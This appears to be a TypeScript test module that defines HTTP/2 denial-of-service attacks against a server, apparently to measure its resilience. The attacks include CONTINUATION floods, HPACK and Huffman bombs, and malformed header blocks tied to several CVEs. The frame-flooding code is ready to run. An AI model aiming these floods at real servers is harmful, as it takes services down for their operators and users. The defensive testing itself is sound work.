import { block, callFields, flags, frame } from '../support/http2-frames.ts';
import { waitUntil } from '../support/wait-until.ts';
import { onConnection } from './attack.ts';
import {
  begin,
  data,
  indexedField,
  inFrames,
  methods,
  sizeUpdate,
  smallRequest,
  streamId,
} from './hostile-frames.ts';

const many = 50_000;
/** A block as large as is read at all. */
const largestBlock = 65_536;
/** The newest entry of the dynamic table: RFC 7541, 6.1. */
const newest = 0xbe;

const unended = (octets: Buffer) => frame('HEADERS', 0, 1, octets);
const continued = (octets: Buffer) => frame('CONTINUATION', 0, 1, octets);

/** CVE-2024-27316 and its siblings: a header block that never ends. */
export const endlessContinuation = onConnection(
  { name: 'CONTINUATION flood', unit: 'CONTINUATION of 16 KiB' },
  async (client) => {
    const octets = Buffer.alloc(16_384, block([['a', 'b']]));
    await client.send(unended(octets));
    const sent = await client.flood(many, () => continued(octets));
    await client.ended();
    return sent;
  },
);

export const smallContinuations = onConnection(
  { name: 'CONTINUATION flood of an octet each', unit: 'CONTINUATION' },
  async (client) => {
    await client.send(unended(Buffer.of(0x82)));
    const sent = await client.flood(many, () => continued(Buffer.of(0x84)));
    await client.ended();
    return sent;
  },
);

/** CVE-2019-9518 has them too. */
export const emptyContinuations = onConnection(
  { name: 'CONTINUATION flood, empty', unit: 'CONTINUATION' },
  async (client) => {
    await client.send(unended(Buffer.alloc(0)));
    const sent = await client.flood(many, () => continued(Buffer.alloc(0)));
    await client.ended();
    return sent;
  },
);

/** CVE-2016-6581: an entry of 4 kB, and blocks of references to it, one octet each: 260 MB of fields a block. */
export const hpackBomb = onConnection(
  { name: 'HPACK bomb', unit: 'blocks of 64 KiB that mean 260 MB' },
  async (client) => {
    const entry = indexedField('bomb', Buffer.alloc(4_000, 'x'));
    await client.send(inFrames(1, Buffer.concat([block(callFields(methods.decide)), entry])));
    const references = Buffer.alloc(largestBlock, newest);
    const sent = await client.flood(1_000, (index) => inFrames(streamId(index + 1), references));
    await client.ended();
    return sent;
  },
);

/** Codes of five bits make eight characters of five octets, in names and values that are kept nowhere. */
export const huffmanBomb = onConnection(
  { name: 'Huffman texts of 100,000 characters', unit: 'blocks of 64 KiB' },
  async (client) => {
    const field = indexedField('long', Buffer.alloc(largestBlock - 16), true);
    const sent = await client.flood(1_000, (index) => inFrames(streamId(index), field));
    await client.ended();
    return sent;
  },
);

/** Good requests, each of which empties the table and fills it anew. */
export const tableGames = onConnection(
  { name: 'Tables that are emptied and filled', unit: 'calls' },
  async (client) => {
    const fields = Buffer.concat([
      sizeUpdate(0),
      sizeUpdate(4_096),
      block(callFields(methods.decide)),
      ...Array.from({ length: 60 }, (_, index) => indexedField(`x${index}`, Buffer.from(String(index)))),
    ]);
    const requests = 2_000;
    const sent = await client.flood(requests, (index) => {
      const id = streamId(index);
      return Buffer.concat([inFrames(id, fields), data(id, smallRequest)]);
    });
    await waitUntil('all answers', () => client.count('HEADERS') + client.count('RST_STREAM') >= requests);
    return sent;
  },
);

/** Many small fields count with 32 octets each, as they would as objects. */
export const manyFields = onConnection(
  { name: 'Requests of 1,000 fields', unit: 'requests' },
  async (client) => {
    const fields = Array.from({ length: 1_000 }, (): [string, string] => ['a', '']);
    const octets = block(callFields(methods.decide, fields));
    const sent = await client.flood(many, (index) => inFrames(streamId(index), octets));
    await client.ended();
    return sent;
  },
);

/** What the table must not be told. */
export const brokenBlocks: Readonly<Record<string, Buffer>> = {
  'a table above 4,096': sizeUpdate(4_097),
  'a new bound behind a field': Buffer.concat([Buffer.of(0x82), sizeUpdate(0)]),
  'three new bounds': Buffer.concat([sizeUpdate(0), sizeUpdate(0), sizeUpdate(0)]),
  'an integer without an end': Buffer.concat([Buffer.of(0xff), Buffer.alloc(1_000, 0x80)]),
  'a text longer than its block': Buffer.of(0x00, 0x7f, 0xff, 0xff, 0xff, 0x07),
  'Huffman code that ends the text': Buffer.concat([
    Buffer.of(0x00, 0x84),
    Buffer.alloc(4, 0xff),
    Buffer.of(0),
  ]),
  'an entry that is not there': Buffer.of(0xff, 0xff, 0x7f),
};

/** Header blocks of a stream that was reset are read for the table's sake, and are nothing else. */
export const blocksForNothing = onConnection(
  { name: 'Header blocks for a call that was refused', unit: 'blocks of 16 KiB' },
  async (client) => {
    await client.send(begin(1, '/no.such/Method'));
    await waitUntil('the refusal', () => client.count('RST_STREAM') === 1);
    const octets = frame('HEADERS', flags.END_HEADERS | flags.END_STREAM, 1, Buffer.alloc(16_384, 0x82));
    return client.flood(500, () => octets);
  },
);

/**
 * CVE-2026-49975 and its siblings: an entry of a few octets, referred to a hundred times in each call, and no window for the
 * answers, so that whatever was made of the references stays.
 */
export const http2Bomb = onConnection(
  { name: 'HTTP/2 bomb', unit: 'calls of 100 references', settings: [[4, 0]] },
  async (client, look) => {
    const fields = block(callFields(methods.decide));
    await client.send(
      inFrames(1, Buffer.concat([fields, indexedField('cookie', Buffer.from('a'))])),
      data(1, smallRequest),
    );
    const bomb = Buffer.concat([fields, Buffer.alloc(100, newest)]);
    const sent = await client.flood(1_000, (index) =>
      Buffer.concat([inFrames(streamId(index + 1), bomb), data(streamId(index + 1), smallRequest)]),
    );
    await waitUntil('the heads of the answers', () => client.count('HEADERS') > sent);
    await look();
    return sent;
  },
);

/** Open calls that would keep the largest texts that a head can hold. */
export const longEncodings = onConnection(
  { name: 'Open calls with a grpc-encoding of 15,000 octets', unit: 'calls' },
  async (client, look) => {
    const encoding = 'x'.repeat(15_000);
    const sent = await client.flood(1_000, (index) =>
      begin(streamId(index), methods.decide, [['grpc-encoding', encoding]]),
    );
    // It is answered when all before it was read.
    await client.send(begin(streamId(sent), '/no.such/Method'));
    await waitUntil('the refusal', () => client.count('RST_STREAM') === 1);
    await look();
    return sent;
  },
);
